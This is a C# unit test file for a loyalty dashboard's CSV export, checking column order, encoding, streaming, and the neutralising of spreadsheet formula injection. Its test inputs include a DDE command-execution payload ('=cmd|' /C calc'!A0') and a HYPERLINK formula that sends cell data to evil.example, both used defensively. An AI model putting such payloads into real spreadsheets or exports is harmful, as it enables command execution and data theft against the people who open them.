using System.Buffers;
using System.IO.Pipelines;
using System.Text;
using FsCheck;
using FsCheck.Fluent;
using LoyaltyDashboard.Export;
using LoyaltyDashboard.Queries;

namespace LoyaltyDashboard.Tests.Export;

public sealed class CsvExportTests
{
    private const string Heading = "id,instanceId,site,status,revision,createdDate,updatedDate,fileName,fileSize,emailColumn,pointsColumn,parsedRowCount,parseErrorReason,successCount,failureCount,errorFileExists,mapping";

    private static CancellationToken Stop => TestContext.Current.CancellationToken;

    [Fact]
    public async Task File_begins_with_the_byte_order_mark_and_the_columns_in_the_order_scripts_rely_on() =>
        Assert.Equal("\uFEFF" + Heading + "\r\n", await WriteAsync());

    [Fact]
    public async Task Values_stand_under_their_columns_and_what_is_absent_is_empty()
    {
        var lines = Csv.Parse((await WriteAsync(Rows.Full, Rows.Bare))[1..]);

        Assert.Equal(
            ["import-1", "instance-1", "Rosa's Café", "IMPORTED", "6", "2026-11-24T08:30:00.000Z", "2026-11-24T08:30:00.714Z", "members.csv", "20915", "email", "points", "500", "REASON", "499", "1", "true", "healthy"], lines[1]);
        Assert.Equal(["import-2", .. Enumerable.Repeat("", 15), "unknown"], lines[2]);
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData("\n=1")]
    [InlineData("\tx")]
    [InlineData(" =1+1")]
    [InlineData("   -1")]
    [InlineData("\u00A0=1")]
    [InlineData("\u3000=1")]
    [InlineData("\uFEFF=1")]
    [InlineData("\"=1+1\"")]
    [InlineData(" \"=1+1")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠SUM")]
    [InlineData("−1")]
    [InlineData(" \n=1")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"https://evil.example?\"&A1,\"click, please\")")]
    public async Task Text_that_a_spreadsheet_would_run_is_made_harmless(string text)
    {
        var cell = Csv.Parse((await WriteAsync(Rows.Bare with { FileName = text }))[1..])[1][7];

        Assert.Equal("'" + text, cell);
    }

    [Theory]
    [InlineData("1;=A1;2", "1;'=A1;2")]
    [InlineData("a; -b.csv", "a;' -b.csv")]
    [InlineData("=1;=2", "'=1;'=2")]
    public async Task Formula_behind_a_semicolon_is_made_harmless_too(string text, string harmless) =>
        Assert.Equal(harmless, Csv.Parse((await WriteAsync(Rows.Bare with { FileName = text }))[1..])[1][7]);

    [Theory]
    [InlineData("")]
    [InlineData("plain")]
    [InlineData("a;b")]
    [InlineData("a=b")]
    [InlineData("1-2")]
    [InlineData("ann@example.com")]
    [InlineData("it's")]
    [InlineData("'quoted'")]
    [InlineData("comma, inside")]
    [InlineData("quote \" inside")]
    [InlineData("line\r\nbreak")]
    [InlineData(" blanks around ")]
    [InlineData("日本語 😀 ü")]
    public async Task Other_text_is_given_as_it_is(string text) => Assert.Equal(text, Csv.Parse((await WriteAsync(Rows.Bare with { FileName = text }))[1..])[1][7]);

    [Fact]
    public async Task Numbers_and_times_are_never_touched()
    {
        var cells = Csv.Parse((await WriteAsync(Rows.Bare with { FileSize = -5, ParsedRowCount = long.MinValue, Created = DateTimeOffset.MinValue, ErrorFileExists = false }))[1..])[1];

        Assert.Equal(("-5", "-9223372036854775808", "0001-01-01T00:00:00.000Z", "false"), (cells[8], cells[11], cells[5], cells[15]));
    }

    [Fact]
    public void Any_text_comes_back_from_a_cell_and_never_begins_a_formula() => Prop.ForAll(Text().ToArbitrary(), text =>
    {
        var cell = Csv.Parse(CsvText.Cell(text) + ",\r\n")[0][0];
        // Nothing but apostrophes is ever put in.
        return cell.Replace("'", string.Empty, StringComparison.Ordinal) == text.Replace("'", string.Empty, StringComparison.Ordinal) && !cell.TrimStart(' ', '\u00A0').StartsWith('=') && !cell.StartsWith('\t');
    }).Check(Config.QuickThrowOnFailure.WithMaxTest(2_000));

    [Fact]
    public void Short_way_of_writing_a_text_gives_what_the_plain_way_gives() => Prop.ForAll(Text().ToArbitrary(), text =>
    {
        var output = new ArrayBufferWriter<byte>();
        CsvText.Write(output, Encoding.UTF8.GetBytes(text));
        return Encoding.UTF8.GetString(output.WrittenSpan) == CsvText.Cell(text);
    }).Check(Config.QuickThrowOnFailure.WithMaxTest(5_000));

    [Fact]
    public async Task Language_of_the_machine_changes_nothing()
    {
        var before = Thread.CurrentThread.CurrentCulture;
        try
        {
            Thread.CurrentThread.CurrentCulture = new System.Globalization.CultureInfo("ar-SA");
            var text = await WriteAsync(Rows.Full);
            Assert.Contains("2026-11-24T08:30:00.714Z,members.csv,20915,", text);
        }
        finally
        {
            Thread.CurrentThread.CurrentCulture = before;
        }
    }

    [Fact]
    public async Task First_bytes_are_sent_before_the_last_row_is_read()
    {
        var pipe = new Pipe();
        var (gate, ended) = (new TaskCompletionSource(), new TaskCompletionSource());
        var write = CsvExport.WriteAsync(pipe.Writer, Rows.Gated([Rows.Cells(Rows.Full), Rows.Cells(Rows.Bare)], gate.Task, ended), Stop);

        var first = await pipe.Reader.ReadAsync(Stop);

        Assert.StartsWith("\uFEFFid,", Encoding.UTF8.GetString(first.Buffer));
        Assert.False(write.IsCompleted);
        gate.SetResult();
        await write;
    }

    [Fact]
    public async Task Reader_that_goes_away_ends_the_query()
    {
        using var gone = new CancellationTokenSource();
        var ended = new TaskCompletionSource();
        var write = CsvExport.WriteAsync(new Pipe().Writer, Rows.Gated([Rows.Cells(Rows.Full), Rows.Cells(Rows.Bare)], new TaskCompletionSource().Task, ended), gone.Token);

        await gone.CancelAsync();

        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => write);
        Assert.True(ended.Task.IsCompleted);
    }

    private static Gen<string> Text()
    {
        var letter = Gen.OneOf(Gen.Elements("=", "+", "-", "@", "\t", "\r", "\n", " ", "\u00A0", "\"", "'", ",", ";", "a", "ü", "＝", "−", "\u3000", "\uFEFF", "😀"), Gen.Choose(32, 126).Select(c => ((char)c).ToString()));
        return letter.ArrayOf().Select(string.Concat);
    }

    private static async Task<string> WriteAsync(params ImportRow[] rows)
    {
        using var stream = new MemoryStream();
        var output = PipeWriter.Create(stream, new StreamPipeWriterOptions(leaveOpen: true));
        await CsvExport.WriteAsync(output, Rows.Pieces(rows), Stop);
        return new UTF8Encoding(encoderShouldEmitUTF8Identifier: false, throwOnInvalidBytes: true).GetString(stream.ToArray());
    }
}
